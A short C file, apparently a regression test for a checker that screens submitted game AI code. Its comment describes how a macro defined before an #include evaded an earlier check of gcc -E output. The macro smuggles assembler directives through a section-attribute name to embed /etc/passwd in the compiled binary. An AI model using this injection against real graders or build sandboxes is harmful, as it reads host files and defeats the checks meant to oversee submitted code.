/* A macro defined before the #include expands on the game header's own
 * lines, which the old check of gcc -E output trusted: the attribute lands
 * on the header's declaration of ai_move. */
#define ai_move __attribute__((section(".data\n\xc3\xa9: .incbin \"/etc/passwd\"\n.data"))) ai_move
#include "dominator.h"
int ai_move(int turn) { return turn; }
